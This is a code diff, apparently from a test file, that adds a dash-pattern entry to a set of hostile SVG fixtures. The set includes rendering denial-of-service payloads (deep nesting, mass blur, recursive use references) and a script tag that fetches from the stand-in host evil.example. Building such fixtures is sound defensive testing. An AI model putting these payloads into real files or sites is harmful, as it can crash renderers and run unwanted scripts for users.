@@ -25,6 +25,7 @@ const logos: Record<string, string> = {
   "filters for everything": svg(`<style>*{filter:blur(99px)}</style>${"<rect/>".repeat(9_000)}`),
   "elements in elements": svg("<g>".repeat(30_000) + "</g>".repeat(30_000)),
   "a part used from 4 000 places": svg(`<g id="a">${"<path/>".repeat(2_000)}</g>${'<use href="#a"/>'.repeat(4_000)}`),
+  "a million dashes, 50 times": svg('<path d="M0 500H1000" stroke="red" stroke-dasharray=".001"/>'.repeat(50)),
   "words and a sign": svg(`<rect d="${"a".repeat(200_000)}" fill="src("/>`),
   "a part that holds itself": svg(`<g id="a"><use href="#a"/></g>`),
   script: svg("<script>fetch('https://evil.example')</script>"),
